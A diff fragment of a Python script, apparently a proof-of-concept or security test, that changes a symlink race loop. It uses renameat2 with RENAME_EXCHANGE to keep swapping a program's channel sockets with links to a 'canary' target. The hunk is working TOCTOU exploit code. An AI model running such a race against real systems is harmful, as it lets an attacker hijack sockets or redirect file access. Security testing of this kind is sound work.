@@ -52,17 +52,19 @@ def evil(folder, target):
         return None
     return path.encode()
 
-# The channel's sockets, named ahead of time (channel-1.sock, channel-2.sock...): in each folder, the next two
-# are tried in a tight loop, and each is swapped for a link to the canary the moment it appears.
-ahead = {folder: [1, evil(folder, targets[0])] for folder in folders}
-tries = [(folder, state, n) for folder, state in ahead.items() for n in (0, 1)]
-swapped, rounds = set(), 0
+# The channel's sockets, named ahead of time (channel-1.sock, channel-2.sock...): in each folder, the newest one
+# is exchanged with a link to the canary and back again, over and over, until the next one appears; at any
+# moment the name is as likely to be the link as the socket.
+links, newest, swapped, rounds = {}, dict.fromkeys(folders, 1), set(), 0
 deadline = time.time() + 300
 while rounds % 10000 or time.time() < deadline:
-    for folder, state, n in tries:
-        if state[1] and renameat2(AT_FDCWD, f"{folder}/channel-{state[0] + n}.sock".encode(), AT_FDCWD, state[1],
-                                  RENAME_EXCHANGE) == 0:
-            state[:] = [state[0] + n + 1, evil(folder, targets[0])]
+    for folder, n in newest.items():
+        for m in (n, n + 1):
+            if (folder, m) not in links:
+                links[folder, m] = evil(folder, targets[0])
+            if links[folder, m] and renameat2(AT_FDCWD, f"{folder}/channel-{m}.sock".encode(), AT_FDCWD,
+                                              links[folder, m], RENAME_EXCHANGE) == 0 and m > n:
+                newest[folder] = m
     rounds += 1
     if rounds % 5000:
         continue
